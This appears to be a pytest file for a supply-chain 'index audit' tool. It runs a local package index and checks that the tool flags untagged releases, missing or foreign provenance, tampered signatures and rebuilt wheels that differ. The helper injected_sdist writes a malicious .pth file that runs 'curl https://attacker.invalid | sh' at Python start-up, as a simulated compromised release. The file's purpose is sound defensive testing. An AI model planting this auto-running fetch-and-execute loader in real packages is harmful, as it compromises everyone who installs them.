"""The index audit (make index-audit) against a local PEP 691 / PEP 740 index.

The index is started by each test on 127.0.0.1 (a free port) and stopped by
it. It serves a real file and its real provenance, and builds every broken
case around them:

- ``pypi_attestations-0.0.19.tar.gz``: pypi-attestations' 0.0.19 sdist as PyPI
  serves it (SHA-256 9bb1add0...4bd3, as PyPI lists it);
- ``pypi_attestations-0.0.19.tar.gz.provenance``: PyPI's integrity API answer
  for it, one attestation signed through sigstore (Fulcio certificate, Rekor
  entry) by the workflow
  ``https://github.com/trailofbits/pypi-attestations/.github/workflows/release.yml@refs/tags/v0.0.19``
  (commit 08802efe1f8e5fec4ad842d6b8ce97656092ee72), on 2024-12-04.

Neither is kept here: both ship in pypi-attestations' own sdist, as
``pypi_attestations-0.0.30/test/assets/...``, and the session fixture
``real_assets`` (``real_assets.py``) downloads that sdist from PyPI by exact
version and SHA-256 (requirements/tools.txt's pin), once, cached by its hash.
The tests that use them are marked ``network``; the audit itself runs offline
against the local index, and verifies the provenance with sigstore's bundled
trust root. The index's PEP 691 page is built here from the file's own bytes
(name, SHA-256, size), and its ``provenance`` field points at its own
integrity API, as PyPI's does.

The project audited is a fixture repository whose pyproject.toml describes
pypi-attestations (its name, its repository, its publish workflow) and holds
its tag v0.0.19; each broken case changes the index's answers or that
repository.

The rebuild is tested with this project's own build (a copy, tagged, built,
its files served by the local index), since only a build of the pipeline can
be made again byte for byte.
"""

import gzip
import hashlib
import io
import json
import socket
import tarfile
import threading
import time
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Dict, List, Optional, Tuple

import pytest
from packaging.version import Version

from tests.release.helpers import (
    Project,
    add_to_release_check,
    failed,
    new_project,
    passed,
    texts,
)
from tests.release.publish.real_assets import DIGEST, SDIST, RealAssets
from tools.publish import index_audit

SIGNER = (
    "https://github.com/trailofbits/pypi-attestations/.github/workflows/"
    "release.yml@refs/tags/v0.0.19"
)
JSON_PAGE = "application/vnd.pypi.simple.v1+json"
INTEGRITY_TYPES = ("application/vnd.pypi.integrity.v1+json", "application/json")
# Files an index serves: (PEP 691 entry, the file's bytes, its provenance or None)
Files = List[Tuple[dict, bytes, Optional[bytes]]]


class AuditedIndex:
    """A simple API (PEP 691 JSON, PEP 740 ``provenance``) and an integrity
    API on 127.0.0.1, answering from ``routes`` (path -> status, type, body)."""

    def __init__(self) -> None:
        self.routes: Dict[str, Tuple[int, str, bytes]] = {}
        self.asked: List[str] = []
        index = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                index.asked.append(self.path)
                status, ctype, body = index.routes.get(
                    self.path, (404, "text/plain", b"not found")
                )
                accept = self.headers.get("Accept", "")
                if self.path.startswith("/integrity/") and not any(
                    kind in accept for kind in INTEGRITY_TYPES
                ):  # as warehouse's integrity view answers (warehouse/api/integrity.py)
                    status, ctype = 406, "application/json"
                    body = b'{"message": "Request not acceptable"}'

                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.simple = f"{self.base}/simple/"
        self.thread = threading.Thread(
            target=self.server.serve_forever, args=(0.05,), daemon=True
        )
        self.thread.start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(5)

    def serve(
        self,
        project: str,
        files: Files,
        provenance_field: bool = True,
    ) -> None:
        """The project's page listing ``files`` (entry as PyPI gives it, the
        file's bytes, its provenance document or None), the files and the
        provenance documents, at PyPI's paths."""
        entries, versions = [], set()
        for entry, body, provenance in files:
            name = entry["filename"]
            version = name[len(project.replace("-", "_")) + 1 :].split("-")[0]
            version = version.replace(".tar.gz", "")
            entry = dict(entry, url=f"/files/{name}")
            self.routes[f"/files/{name}"] = (200, "application/octet-stream", body)
            path = f"/integrity/{project}/{version}/{name}/provenance"
            if provenance is not None:
                self.routes[path] = (200, "application/json", provenance)
            if provenance_field:
                entry["provenance"] = self.base + path if provenance else None
            entries.append(entry)
            versions.add(version)
        page = {
            "meta": {"api-version": "1.1"},
            "name": project,
            "versions": sorted(versions, key=Version),
            "files": entries,
        }
        body = json.dumps(page).encode()
        self.routes[f"/simple/{project}/"] = (200, JSON_PAGE, body)


@pytest.fixture
def index():
    server = AuditedIndex()
    yield server
    server.stop()
    with pytest.raises(OSError):  # stopped: nothing answers on its port any more
        socket.create_connection(server.server.server_address, timeout=1).close()


@pytest.fixture
def real(real_assets: RealAssets) -> Files:
    """The real sdist, listed as PyPI lists it, and its real provenance."""
    body = real_assets.sdist.read_bytes()
    return [(entry_for(SDIST, body), body, real_assets.provenance.read_bytes())]


FIXTURE_PYPROJECT = """\
[project]
name = "pypi-attestations"
dynamic = ["version"]

[project.urls]
Source = "https://github.com/{repository}"

[tool.hatch.version.raw-options]
tag_regex = "^v(?P<version>[0-9].*)$"

[tool.hatch.build.targets.wheel]
packages = ["src/pypi_attestations"]

[tool.release-check.trusted-publishers]
pypi = {{ workflow = "{workflow}", environment = "release" }}
{extra}"""


def fixture_repo(
    tmp_path: Path,
    repository: str = "trailofbits/pypi-attestations",
    workflow: str = "release.yml",
    extra: str = "",
    tags: Tuple[str, ...] = ("v0.0.19",),
) -> Project:
    """A repository describing pypi-attestations, with its release tag(s)."""
    path = tmp_path / "repo"
    path.mkdir()
    (path / "pyproject.toml").write_text(
        FIXTURE_PYPROJECT.format(repository=repository, workflow=workflow, extra=extra)
    )
    repo = Project(path)
    repo.git("init", "-q", "-b", "main")
    repo.commit("initial")
    for tag in tags:
        repo.tag(tag)
    return repo


def audit(repo: Project, index: AuditedIndex, capsys, *args: str) -> Tuple[int, str]:
    code = index_audit.main(
        ["--index-url", index.simple, "--root", str(repo.path), *args]
    )
    out = capsys.readouterr()
    return code, out.out + out.err


def problems(text: str) -> List[str]:
    """The problem lines the audit printed (stderr's list)."""
    after = text.split("index audit: ", 1)[-1]
    return [line[4:] for line in after.splitlines() if line.startswith("  - ")]


def injected_sdist(version: str) -> bytes:
    """An sdist nobody here built: a .pth file that runs at every start-up."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        data = b"import os; os.system('curl https://attacker.invalid | sh')\n"
        info = tarfile.TarInfo(f"pypi_attestations-{version}/init.pth")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), mtime=0)


def entry_for(name: str, body: bytes) -> dict:
    """The file's PEP 691 entry (``serve`` sets its url and provenance)."""
    return {
        "filename": name,
        "hashes": {"sha256": hashlib.sha256(body).hexdigest()},
        "size": len(body),
        "yanked": False,
    }


# ---- a clean history ----------------------------------------------------------


@pytest.mark.e2e
@pytest.mark.network
def test_clean_history_passes_with_the_real_provenance(
    tmp_path, index, capsys, monkeypatch, real
):
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    index.serve("pypi-attestations", real)
    repo = fixture_repo(tmp_path)
    code, text = audit(repo, index, capsys, "--no-rebuild")
    assert code == 0, text
    assert "index audit: passed: 1 files of pypi-attestations" in text
    row = (
        f"| 0.0.19 | `{SDIST}` | v0.0.19 | verified (release.yml @ 08802efe1f8e) "
        "| not rebuilt |"
    )
    assert row in text
    assert row in summary.read_text()
    assert "/integrity/pypi-attestations/0.0.19/" + SDIST + "/provenance" in "".join(
        index.asked
    )


@pytest.mark.e2e
@pytest.mark.network
def test_without_the_provenance_field_the_integrity_api_is_asked(
    tmp_path, index, capsys, real
):
    index.serve("pypi-attestations", real, provenance_field=False)
    code, text = audit(fixture_repo(tmp_path), index, capsys, "--no-rebuild")
    assert code == 0, text
    assert f"/integrity/pypi-attestations/0.0.19/{SDIST}/provenance" in index.asked


# ---- the litellm case -----------------------------------------------------------


def litellm_case(index: AuditedIndex, real: Files) -> None:
    """0.0.19 as published, and 0.0.20 uploaded with a stolen credential: no
    tag in the repository, no provenance."""
    bad = injected_sdist("0.0.20")
    entry = entry_for("pypi_attestations-0.0.20.tar.gz", bad)
    index.serve("pypi-attestations", real + [(entry, bad, None)])


@pytest.mark.e2e
@pytest.mark.network
def test_an_injected_release_without_tag_or_provenance_fails(
    tmp_path, index, capsys, real
):
    litellm_case(index, real)
    code, text = audit(fixture_repo(tmp_path), index, capsys)
    assert code == 1, text
    assert problems(text) == [
        "pypi-attestations 0.0.20 is on the index but the repository has no tag "
        "for it: no maintainer released it from here (or the tag was deleted); "
        "yank the release on the index, report it to the index's security "
        "contact (security@pypi.org) and rotate every publishing credential of "
        "the project",
        "pypi_attestations-0.0.20.tar.gz has no provenance on the index: nothing "
        "shows that trailofbits/pypi-attestations's release.yml published it; "
        "yank the release on the index, report it to the index's security "
        "contact (security@pypi.org) and rotate every publishing credential of "
        "the project",
    ]
    assert (
        "| 0.0.20 | `pypi_attestations-0.0.20.tar.gz` | MISSING | MISSING | no tag |"
        in text
    )
    assert "| 0.0.19 |" in text and "verified (release.yml" in text


@pytest.mark.e2e
@pytest.mark.network
def test_an_old_release_accepted_with_a_reason_passes(tmp_path, index, capsys, real):
    litellm_case(index, real)
    extra = (
        "\n[tool.release-check]\naccept-releases = [\n"
        '  { version = "0.0.20", reason = "uploaded by hand before the pipeline" '
        "},\n]\n"
    )
    code, text = audit(fixture_repo(tmp_path, extra=extra), index, capsys)
    assert code == 0, text
    assert (
        "| 0.0.20 | `pypi_attestations-0.0.20.tar.gz` | none (accepted) | "
        "accepted: uploaded by hand before the pipeline | not rebuilt |"
    ) in text
    assert "the newest release 0.0.20 is accepted" in text


@pytest.mark.e2e
@pytest.mark.network
def test_an_acceptance_without_a_reason_fails(tmp_path, index, capsys, real):
    litellm_case(index, real)
    extra = '\n[tool.release-check]\naccept-releases = [{ version = "0.0.20" }]\n'
    code, text = audit(fixture_repo(tmp_path, extra=extra), index, capsys)
    assert code == 1, text
    assert "accept-releases, entry 1: needs version and reason" in text
    assert "0.0.20 is on the index but the repository has no tag" in text


@pytest.mark.e2e
@pytest.mark.network
def test_a_dev_build_needs_no_tag_but_its_provenance(tmp_path, index, capsys, real):
    """TestPyPI's dev builds have no tag: a dev build without provenance is
    still caught, and a yanked file is still audited (pinned installs get it)."""
    bad = injected_sdist("0.0.20.dev3")
    entry = dict(entry_for("pypi_attestations-0.0.20.dev3.tar.gz", bad), yanked=True)
    index.serve("pypi-attestations", real + [(entry, bad, None)])
    code, text = audit(fixture_repo(tmp_path), index, capsys, "--no-rebuild")
    assert code == 1, text
    assert [p.split(":")[0] for p in problems(text)] == [
        "pypi_attestations-0.0.20.dev3.tar.gz has no provenance on the index"
    ]
    assert (
        "| 0.0.20.dev3 (yanked) | `pypi_attestations-0.0.20.dev3.tar.gz` | dev build "
        "| MISSING | not rebuilt |"
    ) in text


@pytest.mark.e2e
@pytest.mark.network
def test_a_provenance_the_index_fails_to_serve_fails(tmp_path, index, capsys, real):
    index.serve("pypi-attestations", real)
    path = f"/integrity/pypi-attestations/0.0.19/{SDIST}/provenance"
    index.routes[path] = (503, "text/plain", b"busy")
    code, text = audit(fixture_repo(tmp_path), index, capsys, "--no-rebuild")
    assert code == 1, text
    assert problems(text) == [
        f"the provenance of {SDIST} could not be read (HTTP 503 Service Unavailable "
        f"on {index.base}{path}): run the audit again; a file whose provenance "
        "cannot be read is not vouched for"
    ]


@pytest.mark.e2e
@pytest.mark.network
def test_a_version_to_rebuild_must_be_served(tmp_path, index, capsys, real):
    index.serve("pypi-attestations", real)
    code, text = audit(fixture_repo(tmp_path), index, capsys, "--versions", "0.0.18")
    assert code == 1, text
    assert problems(text) == [
        "VERSIONS names 0.0.18, which the index does not serve (it serves 0.0.19): "
        "name a published version"
    ]


# ---- provenance of another identity, or of other bytes --------------------------


@pytest.mark.parametrize(
    "repository, workflow, ours",
    [
        ("glyph-fork/pypi-attestations", "release.yml", "glyph-fork/pypi-attestations"),
        (
            "trailofbits/pypi-attestations",
            "publish.yml",
            "trailofbits/pypi-attestations",
        ),
    ],
    ids=["another repository", "another workflow"],
)
@pytest.mark.e2e
@pytest.mark.network
def test_a_provenance_of_another_identity_fails(
    tmp_path, index, capsys, repository, workflow, ours, real
):
    index.serve("pypi-attestations", real)
    repo = fixture_repo(tmp_path, repository=repository, workflow=workflow)
    code, text = audit(repo, index, capsys, "--no-rebuild")
    assert code == 1, text
    assert problems(text) == [
        f"{SDIST} was attested by {SIGNER}, not by https://github.com/{ours}/"
        f".github/workflows/{workflow}: someone else published it; yank the "
        "release on the index, report it to the index's security contact "
        "(security@pypi.org) and rotate every publishing credential of the project"
    ]
    assert "| other identity |" in text


@pytest.mark.e2e
@pytest.mark.network
def test_a_file_whose_digest_differs_from_its_provenance_fails(
    tmp_path, index, capsys, real_assets
):
    body = bytearray(real_assets.sdist.read_bytes())
    body[-1] ^= 0xFF  # other bytes under the same name
    entry = entry_for(SDIST, bytes(body))
    provenance = real_assets.provenance.read_bytes()
    index.serve("pypi-attestations", [(entry, bytes(body), provenance)])
    code, text = audit(fixture_repo(tmp_path), index, capsys, "--no-rebuild")
    assert code == 1, text
    served = entry["hashes"]["sha256"]
    assert problems(text)[0].startswith(
        f"{SDIST} on the index has SHA-256 {served} but its provenance attests "
        f"{DIGEST}: the index serves other bytes than were "
        "published; yank"
    )


@pytest.mark.e2e
@pytest.mark.network
def test_a_tampered_signature_does_not_verify(tmp_path, index, capsys, real_assets):
    """The identity and digest match, the signature does not: sigstore says so."""
    document = json.loads(real_assets.provenance.read_bytes())
    envelope = document["attestation_bundles"][0]["attestations"][0]["envelope"]
    signature = envelope["signature"]
    envelope["signature"] = (
        signature[:20] + ("A" if signature[20] != "A" else "B") + signature[21:]
    )
    body = real_assets.sdist.read_bytes()
    files = [(entry_for(SDIST, body), body, json.dumps(document).encode())]
    index.serve("pypi-attestations", files)
    code, text = audit(fixture_repo(tmp_path), index, capsys, "--no-rebuild")
    assert code == 1, text
    assert f"{SDIST}: its attestation by {SIGNER} does not verify (" in text
    assert "| not verified |" in text


@pytest.mark.e2e
@pytest.mark.network
def test_a_release_published_from_another_ref_than_its_tag_fails(
    tmp_path, index, capsys, real
):
    """The tag v0.0.19 names another version here: the certificate's ref is
    refs/tags/v0.0.19, the repository's tag of 0.0.19 is release-0.0.19."""
    extra = ""
    repo = fixture_repo(tmp_path, extra=extra, tags=())
    text = (repo.path / "pyproject.toml").read_text()
    (repo.path / "pyproject.toml").write_text(
        text.replace('"^v(?P<version>', '"^release-(?P<version>')
    )
    repo.tag("release-0.0.19")
    index.serve("pypi-attestations", real)
    code, text = audit(repo, index, capsys, "--no-rebuild")
    assert code == 1, text
    assert (
        f"{SDIST} was published by our workflow from refs/tags/v0.0.19, not from "
        "its tag refs/tags/release-0.0.19"
    ) in text


# ---- an index that cannot be audited ---------------------------------------------


def test_an_index_that_does_not_answer_fails_clearly(tmp_path, capsys, monkeypatch):
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    code = index_audit.main(
        [
            "--index-url",
            f"http://127.0.0.1:{port}/simple/",
            "--root",
            str(fixture_repo(tmp_path).path),
            "--timeout",
            "5",
        ]
    )
    text = capsys.readouterr().err
    assert code == 1
    assert text.startswith(
        f"error: index audit: http://127.0.0.1:{port}/simple/ did not answer "
        "(connection refused"
    )
    assert "the audit cannot tell what the index serves" in text
    assert len(text.splitlines()) == 1
    assert summary.read_text().startswith(
        f"### Index audit on http://127.0.0.1:{port}/simple/\n\n**Failed**: "
        f"http://127.0.0.1:{port}/simple/ did not answer (connection refused"
    )


@pytest.mark.e2e
def test_an_index_without_the_project_fails_clearly(tmp_path, index, capsys):
    code, text = audit(fixture_repo(tmp_path), index, capsys)
    assert code == 1
    assert (
        f"error: index audit: {index.simple} has no project pypi-attestations "
        f"(HTTP 404 on {index.simple}pypi-attestations/)"
    ) in text
    assert "nothing to audit" not in text and "passed" not in text


@pytest.mark.e2e
def test_an_index_without_the_json_api_fails_clearly(tmp_path, index, capsys):
    page = f'<a href="/files/{SDIST}#sha256={DIGEST}">x</a>'
    index.routes["/simple/pypi-attestations/"] = (200, "text/html", page.encode())
    code, text = audit(fixture_repo(tmp_path), index, capsys)
    assert code == 1
    assert text == (
        f"error: index audit: {index.simple}pypi-attestations/ answered text/html, "
        "not PEP 691 JSON: the audit needs an index that serves the JSON simple "
        "API (PyPI and TestPyPI do); check INDEX_URL\n"
    )


@pytest.mark.e2e
def test_versions_must_be_versions(tmp_path, index, capsys):
    code, text = audit(fixture_repo(tmp_path), index, capsys, "--versions", "latest")
    assert code == 2
    assert "VERSIONS: 'latest' is not a version" in text


# ---- the rebuild of the newest release (this project's own build) ----------------


@pytest.fixture(scope="module")
def released_copy(tmp_path_factory) -> Project:
    """A copy of the project that accepts its 1.2.3 (no provenance can be made
    here), tagged v1.2.3 and built."""
    proj = new_project(tmp_path_factory, "audited")
    pyproject = proj.path / "pyproject.toml"
    add_to_release_check(
        pyproject,
        'accept-releases = [\n  { version = "1.2.3", '
        'reason = "the tests cannot sign a provenance" },\n]\n',
    )
    proj.commit("accept 1.2.3")
    proj.tag("v1.2.3")
    out = proj.make("dist")
    assert out.returncode == 0, out.stdout + out.stderr
    return proj


def serve_dist(index: AuditedIndex, proj: Project, change=None) -> None:
    files = []
    for path in sorted((proj.path / "dist").iterdir()):
        body = path.read_bytes()
        if change is not None and path.suffix == ".whl":
            body = change(body)
        files.append((entry_for(path.name, body), body, None))
    index.serve("glyph-phase-engine", files)


def inject_member(wheel: bytes) -> bytes:
    """The wheel with one more module: what a stolen credential would upload."""
    raw = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(wheel)) as old, zipfile.ZipFile(raw, "w") as new:
        for info in old.infolist():
            new.writestr(info, old.read(info))
        new.writestr("glyph_phase_engine/_telemetry.py", "import os\n")
    return raw.getvalue()


@pytest.mark.e2e
def test_the_newest_release_equals_a_rebuild_of_its_tag(released_copy, index):
    serve_dist(index, released_copy)
    out = released_copy.make(
        "index-audit", env={"INDEX_URL": index.simple, "VERSIONS": "1.2.3"}
    )
    text = passed(out)
    assert text.count("| same bytes |") == 2, text
    assert "accepted: the tests cannot sign a provenance" in text


@pytest.mark.e2e
def test_a_newest_release_whose_rebuild_differs_fails(released_copy, index):
    serve_dist(index, released_copy, change=inject_member)
    out = released_copy.make(
        "index-audit", env={"INDEX_URL": index.simple, "VERSIONS": "1.2.3"}
    )
    text = failed(out, "| differs |")
    wheel = next(p.name for p in (released_copy.path / "dist").glob("*.whl"))
    assert f"  - {wheel} on the index (SHA-256 " in text
    assert (
        "differs from a build of tag v1.2.3 (" in text
        and "; glyph_phase_engine/_telemetry.py differs)" in text
    ), text
    assert "the index serves files the tag does not build" in text


@pytest.mark.e2e
@pytest.mark.network
def test_the_litellm_case_takes_seconds(tmp_path, index, capsys, real):
    """The audit's run time against the local index (no rebuild to do)."""
    litellm_case(index, real)
    repo = fixture_repo(tmp_path)
    start = time.perf_counter()
    code, _text = audit(repo, index, capsys)
    assert code == 1
    assert time.perf_counter() - start < 10


# ---- the rebuild's parts, directly --------------------------------------------


def served_file(name: str, body: bytes) -> index_audit.ServedFile:
    return index_audit.ServedFile(
        filename=name,
        version=None,
        sha256=hashlib.sha256(body).hexdigest(),
        url=f"http://index.invalid/files/{name}",
        provenance=None,
    )


def test_download_refuses_other_bytes_than_listed(tmp_path):
    item = served_file(SDIST, b"listed bytes")

    def get(url, timeout):
        return index_audit.Answer(url, 200, "application/octet-stream", b"other")

    fetched = index_audit.download([item], tmp_path / "dl", get, 1)
    assert fetched.value == {}
    assert fetched.problems[0].where == SDIST
    assert texts(fetched.problems) == [
        f"{SDIST} downloaded from {item.url} has SHA-256 "
        f"{hashlib.sha256(b'other').hexdigest()} but the index lists {item.sha256}: "
        "the index serves other bytes than it lists; report it to the index's "
        "security contact"
    ]
    assert not (tmp_path / "dl" / SDIST).exists()


def test_a_file_the_tag_does_not_build_is_named(tmp_path):
    extra = "pypi_attestations-0.0.19-cp313-cp313-manylinux_2_17_x86_64.whl"
    (tmp_path / extra).write_bytes(b"a wheel nobody built here")
    (tmp_path / SDIST).write_bytes(b"the sdist the tag builds")
    served = [served_file(extra, b"a wheel nobody built here")]
    found = index_audit.compare_rebuild(
        served, {extra: tmp_path / extra}, {SDIST: tmp_path / SDIST}, "v0.0.19", "yank"
    )
    assert list(found) == [extra]
    assert found[extra].value == "not made by the tag"
    assert texts(found[extra].problems) == [
        f"{extra} is on the index but a build of tag v0.0.19 does not make it "
        f"(it makes {SDIST}): no build of this repository produced it; yank"
    ]
    assert found[extra].problems[0].fix == "yank"
